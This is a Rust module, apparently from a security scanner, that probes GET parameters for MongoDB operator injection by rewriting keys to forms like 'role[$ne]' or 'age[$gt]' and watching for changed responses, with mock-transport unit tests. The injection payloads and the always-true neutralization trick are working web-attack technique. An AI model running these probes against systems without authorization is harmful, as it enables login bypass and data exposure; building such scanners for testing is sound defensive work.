//! Operator-based detection: rewrite GET parameters with Mongo query
//! operators (`$ne`, `$gt`, `$lt`, `$nin`) and watch for a behavior change.
//!
//! Grounded in `original_source/scanners/get_injection_scanner.go`'s
//! `GetInjectionTest`/`InjectMongoCharacters`: every other parameter is
//! first neutralized into an always-true `[$ne]` form (so it can't mask
//! the target parameter's effect), the target parameter's own key is
//! rewritten through each [`crate::catalog::MONGO_GET_INJECTION`] operator
//! suffix (`p` -> `p[$ne]`, `p[$gt]`, ...) while its value is swept through
//! a short candidate list, and the scan stops at the first probe -- for a
//! given target, operator and neutralization combination -- whose response
//! diverges from the baseline. The swept neutralization set always
//! includes the empty set (probe `target` alone) plus every non-empty
//! subset of the other parameters from [`crate::combinatorics::combinations`],
//! since which ones actually need neutralizing -- including "none at all"
//! -- is not known ahead of time.

use crate::catalog::MONGO_GET_INJECTION;
use crate::client::HttpTransport;
use crate::combinatorics::combinations;
use crate::error::Result;
use crate::finding::{FindingKind, InjectionFinding};
use crate::request::AttackObject;

const TRUTHY_OVERRIDES: &[(&str, &str)] = &[("[$ne]", ""), ("[$ne]", "a")];
const CANDIDATE_VALUES: &[&str] = &["", "a", "z", "0", "9"];

/// Runs the operator-based channel over every GET query parameter.
pub async fn scan(
    baseline: &AttackObject,
    transport: &dyn HttpTransport,
) -> Result<Vec<InjectionFinding>> {
    let keys = baseline.query_keys();
    if keys.is_empty() {
        return Ok(Vec::new());
    }
    let url = baseline.request_url().to_string();
    let baseline_resp = transport.send(baseline).await?;

    let mut findings = Vec::new();
    for target in &keys {
        let original_value = baseline
            .query_pairs()
            .iter()
            .find(|(k, _)| k == target)
            .map(|(_, v)| v.clone())
            .unwrap_or_default();

        let others: Vec<String> = keys.iter().filter(|k| *k != target).cloned().collect();
        // The empty subset (probe `target` alone, neutralizing nothing)
        // must always be tried, not just when there are no other keys --
        // the Go original ranges `p` over every non-empty subset of *all*
        // keys, which includes the singleton `{p}` even when siblings
        // exist. `combinations` only yields non-empty subsets of `others`,
        // so the no-neutralization case is added explicitly here.
        let mut subsets = vec![Vec::new()];
        subsets.extend(combinations(&others));

        if let Some(f) = scan_target(
            &url,
            target,
            &original_value,
            &subsets,
            baseline,
            &baseline_resp,
            transport,
        )
        .await?
        {
            findings.push(f);
        }
    }
    Ok(findings)
}

async fn scan_target(
    url: &str,
    target: &str,
    original_value: &str,
    subsets: &[Vec<String>],
    baseline: &AttackObject,
    baseline_resp: &crate::response::HttpResponse,
    transport: &dyn HttpTransport,
) -> Result<Option<InjectionFinding>> {
    for subset in subsets {
        for injection in MONGO_GET_INJECTION {
            for (op_suffix, truthy_value) in TRUTHY_OVERRIDES {
                let injected_target = format!("{target}{injection}");
                for candidate in CANDIDATE_VALUES.iter().copied().chain(std::iter::once(original_value)) {
                    let mut probe = baseline.copy();
                    for other in subset {
                        let new_key = format!("{other}{op_suffix}");
                        probe.override_query_pair(other, &new_key, truthy_value);
                    }
                    probe.override_query_pair(target, &injected_target, candidate);
                    let resp = transport.send(&probe).await?;
                    if !resp.content_equals(baseline_resp) {
                        return Ok(Some(InjectionFinding::new(
                            FindingKind::OperatorParam,
                            url.to_string(),
                            target.to_string(),
                            injected_target,
                            candidate.to_string(),
                        )));
                    }
                }
            }
        }
    }
    Ok(None)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::request::BodyType;
    use crate::response::HttpResponse;
    use async_trait::async_trait;
    use std::collections::HashMap;
    use url::Url;

    struct FlipOnOperator;

    #[async_trait]
    impl HttpTransport for FlipOnOperator {
        async fn send(&self, attack: &AttackObject) -> Result<HttpResponse> {
            let has_operator = attack
                .query_keys()
                .iter()
                .any(|k| k == "role[$ne]");
            let body = if has_operator { "ADMIN_PANEL" } else { "LOGIN_FAILED" };
            Ok(HttpResponse {
                status: 200,
                headers: HashMap::new(),
                body: body.to_string(),
                elapsed_ms: 0,
            })
        }
    }

    #[tokio::test]
    async fn detects_operator_rewrite_that_changes_the_response() {
        let url = Url::parse("http://example.com/login?role=guest").unwrap();
        let baseline = AttackObject::new("GET", url, HashMap::new(), String::new(), BodyType::None);
        let findings = scan(&baseline, &FlipOnOperator).await.unwrap();
        assert_eq!(findings.len(), 1);
        assert_eq!(findings[0].injectable_param, "role");
        assert_eq!(findings[0].kind, FindingKind::OperatorParam);
    }

    struct FlipOnGt;

    #[async_trait]
    impl HttpTransport for FlipOnGt {
        async fn send(&self, attack: &AttackObject) -> Result<HttpResponse> {
            let has_operator = attack.query_keys().iter().any(|k| k == "age[$gt]");
            let body = if has_operator { "ALL_RECORDS" } else { "ONE_RECORD" };
            Ok(HttpResponse {
                status: 200,
                headers: HashMap::new(),
                body: body.to_string(),
                elapsed_ms: 0,
            })
        }
    }

    #[tokio::test]
    async fn reports_the_operator_suffixed_key_that_actually_triggered_the_divergence() {
        let url = Url::parse("http://example.com/search?age=30").unwrap();
        let baseline = AttackObject::new("GET", url, HashMap::new(), String::new(), BodyType::None);
        let findings = scan(&baseline, &FlipOnGt).await.unwrap();
        assert_eq!(findings.len(), 1);
        assert_eq!(findings[0].injectable_param, "age");
        assert_eq!(findings[0].injected_param, "age[$gt]");
    }

    struct NeverFlips;

    #[async_trait]
    impl HttpTransport for NeverFlips {
        async fn send(&self, _attack: &AttackObject) -> Result<HttpResponse> {
            Ok(HttpResponse {
                status: 200,
                headers: HashMap::new(),
                body: "SAME".to_string(),
                elapsed_ms: 0,
            })
        }
    }

    #[tokio::test]
    async fn stable_target_reports_no_findings() {
        let url = Url::parse("http://example.com/login?role=guest").unwrap();
        let baseline = AttackObject::new("GET", url, HashMap::new(), String::new(), BodyType::None);
        let findings = scan(&baseline, &NeverFlips).await.unwrap();
        assert!(findings.is_empty());
    }

    #[tokio::test]
    async fn no_query_params_reports_no_findings() {
        let url = Url::parse("http://example.com/login").unwrap();
        let baseline = AttackObject::new("GET", url, HashMap::new(), String::new(), BodyType::None);
        let findings = scan(&baseline, &NeverFlips).await.unwrap();
        assert!(findings.is_empty());
    }
}
